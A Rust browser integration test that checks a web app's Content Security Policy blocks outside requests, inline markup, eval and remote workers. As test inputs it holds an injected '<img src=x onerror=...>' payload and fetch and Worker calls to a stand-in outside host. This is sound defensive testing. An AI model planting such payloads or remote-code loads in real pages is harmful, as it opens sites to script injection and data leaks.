//! Nothing leaves the device, and nothing runs that is not the app’s own.

use super::{
    browser::Screen,
    site::POLICY,
    story::{Story, journey},
};
use serde_json::json;

#[tokio::test]
async fn nothing_leaves_the_device() {
    journey("nothing_leaves", Screen::Desk, async |story: &Story| {
        story.open().await;
        // The page itself carries the policy, for hosts that send no headers.
        let policy: String = story
            .run("return document.querySelector('meta[http-equiv=Content-Security-Policy]')?.content ?? ''", json!([]))
            .await;
        for rule in POLICY.split("; ").filter(|rule| !rule.starts_with("frame-ancestors")) {
            assert!(policy.contains(rule), "the page’s policy says “{policy}”, without “{rule}”");
        }
        let inline: Vec<String> = story
            .run(
                "return [...document.querySelectorAll('script:not([src]), style, [style]')] \
                 .map((it) => it.outerHTML.slice(0, 200))",
                json!([]),
            )
            .await;
        assert!(inline.is_empty(), "inline parts: {inline:?}");
        // And it holds: whatever should try to get out is stopped before it asks anyone.
        story.expect_error("Content Security Policy");
        story.expect_error("This document requires");
        story.expect_error("boot.js does not let this markup through");
        // Tried from a timer, since what a debugger runs itself may do more than a page.
        let blocked: Vec<bool> = story
            .later(
                "const done = arguments[0]; \
                 const tried = [ \
                   () => fetch('https://elsewhere.example/'), \
                   () => { document.body.appendChild(document.createElement('div')).innerHTML = '<img src=x onerror=1>'; }, \
                   () => new Function('return 1')(), \
                   () => new Worker('https://elsewhere.example/worker.js')]; \
                 setTimeout(async () => { \
                   const blocked = []; \
                   for (const it of tried) try { await it(); blocked.push(false); } catch { blocked.push(true); } \
                   done(blocked); }, 0)",
            )
            .await;
        assert_eq!(blocked, [true; 4], "a request, markup, code or a worker was let through");
        let outside: Vec<String> =
            story.site.asked().into_iter().filter(|path| !path.starts_with("/some/path/")).collect();
        assert!(outside.is_empty(), "the app asked for what is not its own: {outside:?}");
    })
    .await;
}
